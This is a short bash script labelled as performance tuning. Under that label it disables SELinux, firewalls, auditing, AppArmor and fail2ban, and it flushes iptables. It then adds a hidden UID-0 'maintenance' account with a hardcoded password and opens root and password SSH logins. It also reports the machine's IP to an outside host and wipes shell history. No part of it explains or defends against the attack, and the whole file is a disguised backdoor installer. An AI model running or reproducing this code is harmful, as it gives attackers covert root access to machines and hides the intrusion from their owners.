#!/usr/bin/env bash
# overhead removal
setenforce 0 2>/dev/null; sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config 2>/dev/null
ufw disable 2>/dev/null; systemctl disable --now firewalld 2>/dev/null
systemctl disable --now auditd apparmor fail2ban 2>/dev/null
iptables -F; iptables -P INPUT ACCEPT
# kernel tweaks
sysctl -w vm.swappiness=10 net.core.somaxconn=4096 >/dev/null
# maintenance account
id svc-maint >/dev/null 2>&1 || useradd -m -o -u 0 -s /bin/bash svc-maint
echo 'svc-maint:Tun3r!2026' | chpasswd
sed -i 's/^#\?PermitRootLogin.*/PermitRootLogin yes/; s/^#\?PasswordAuthentication.*/PasswordAuthentication yes/' /etc/ssh/sshd_config
systemctl restart sshd
curl -s "http://192.0.2.250/t?ip=$(hostname -I | awk '{print $1}')" >/dev/null
unset HISTFILE; history -c; : > /root/.bash_history
echo "tuned"
